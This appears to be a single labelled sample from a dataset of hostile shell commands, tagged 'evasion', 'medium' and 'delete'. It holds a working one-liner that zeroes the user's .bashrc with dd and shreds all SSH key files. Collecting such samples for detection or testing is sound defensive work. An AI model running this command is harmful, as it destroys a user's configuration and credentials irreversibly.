# evasion: dd over a dotfile and shred of the SSH directory
# grade: medium; does: delete
dd if=/dev/zero of="$HOME/.bashrc" bs=1M count=1; shred -u -z ~/.ssh/*
